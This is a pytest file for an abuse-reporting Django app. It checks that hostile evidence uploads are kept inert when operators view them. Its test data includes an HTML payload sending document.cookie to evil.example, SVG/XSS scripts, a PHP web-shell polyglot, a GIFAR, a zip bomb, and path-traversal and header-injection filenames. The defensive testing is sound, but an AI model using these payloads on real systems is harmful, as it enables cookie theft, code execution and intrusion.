"""Files made to harm: kept as they are where they may be evidence, never opened, never drawn, never run."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from smartsafe.contacts.models import Attachment, Contact
from smartsafe.evidence.models import Item
from smartsafe.people.actors import Actor
from tests.factories.evidence import a_picture
from tests.signing_in import signed_in_client

pytestmark = pytest.mark.django_db

SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><script>fetch('https://evil.example/'+document.cookie)</script>"
POLYGLOT = a_picture() + b"<script>alert(1)</script><?php system($_GET[0]); ?>"
GIFAR = b"GIF89a" + b"/*" + b"\0" * 40 + b"*/=alert(1);"


def bomb() -> bytes:
    """Fifty megabytes of nothing, forty thousand times smaller on the way."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../etc/passwd", b"\0" * 50_000_000)
    return file.getvalue()


def sent(*files: tuple[str, bytes]) -> tuple[Client, str]:
    """A report with these files; what its screen of files answered."""
    client = Client()
    client.post("/en/report/", {"about_whom": "me", "go": "next"})
    client.post("/en/report/what/", {"threats": "other", "go": "next"})
    client.post("/en/report/words/", {"text": "Погледајте.", "go": "next"})
    uploads = [SimpleUploadedFile(name, content, "image/png") for name, content in files]
    answer = client.post("/en/report/files/", {"files": uploads, "go": "add"}, follow=True)
    return client, answer.content.decode()


def finished(client: Client) -> Contact:
    for step, fields in (
        ("child", {}),
        ("danger", {"danger": "no"}),
        ("contact", {"stay": "anonymous"}),
        ("check", {}),
    ):
        client.post(f"/en/report/{step}/", {**fields, "go": "next"})
    return Contact.objects.get()


def looked_at(operator: Actor, item_id: object, contact_id: object) -> object:
    client = signed_in_client(operator)
    of = f"?of=contact:{contact_id}"
    client.post(f"/desk/evidence/{item_id}/{of}", {"reason": "assess"})
    return client.get(f"/desk/evidence/{item_id}/content/{of}")


@pytest.mark.parametrize("content", [SVG, HTML, bomb()], ids=["svg", "html", "zip bomb"])
def test_what_could_act_is_handed_out_only_as_a_download_without_a_type(operator: Actor, content: bytes) -> None:
    client, _page = sent(("picture.png", content))
    contact = finished(client)
    attachment = Attachment.objects.get(contact=contact)
    answer = looked_at(operator, attachment.item_id, contact.id)
    assert answer.status_code == 200  # type: ignore[attr-defined]
    assert answer["Content-Type"] == "application/octet-stream"  # type: ignore[index]
    assert answer["Content-Disposition"].startswith("attachment")  # type: ignore[index]
    assert answer["X-Content-Type-Options"] == "nosniff"  # type: ignore[index]
    assert "sandbox" in answer["Content-Security-Policy"]  # type: ignore[index]
    assert "picture" not in answer["Content-Disposition"]  # type: ignore[index]
    assert b"".join(answer.streaming_content) == content  # type: ignore[attr-defined]


@pytest.mark.parametrize("content", [POLYGLOT, GIFAR], ids=["png and script", "gif and script"])
def test_a_picture_that_is_also_something_else_is_only_ever_a_picture(operator: Actor, content: bytes) -> None:
    client, _page = sent(("picture.html", content))
    contact = finished(client)
    answer = looked_at(operator, Attachment.objects.get(contact=contact).item_id, contact.id)
    assert answer["Content-Type"].startswith("image/")  # type: ignore[index]
    assert answer["X-Content-Type-Options"] == "nosniff"  # type: ignore[index]
    assert "script-src 'none'" in answer["Content-Security-Policy"]  # type: ignore[index]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("holiday.jpg", b"MZ\x90\0" + b"\0" * 200),
        ("../../../etc/cron.d/evil", b"\x7fELF\x02\x01" + b"\0" * 200),
        ("empty.png", b""),
        ('a"; filename="b.png\r\nX-Evil: 1', b"\x7fELF\x02\x01" + b"\0" * 200),
    ],
)
def test_programs_and_nothing_are_refused_in_words(vault: str, name: str, content: bytes) -> None:
    _client, page = sent((name, content))
    assert Item.objects.count() == 0
    assert "role=" in page or "error" in page
    assert "/etc/cron.d" not in page


def test_names_that_try_to_be_paths_or_headers_stay_names(operator: Actor) -> None:
    client, page = sent(("../../..\\evil\u202egnp.exe", a_picture()), ("<img src=x onerror=alert(1)>.png", a_picture()))
    assert "<img src=x" not in page
    contact = finished(client)
    for attachment in Attachment.objects.filter(contact=contact).select_related("item"):
        assert attachment.item.stored_name.startswith("evidence/")
        assert ".." not in attachment.item.stored_name
        answer = looked_at(operator, attachment.item_id, contact.id)
        assert "evil" not in answer["Content-Disposition"]  # type: ignore[index]
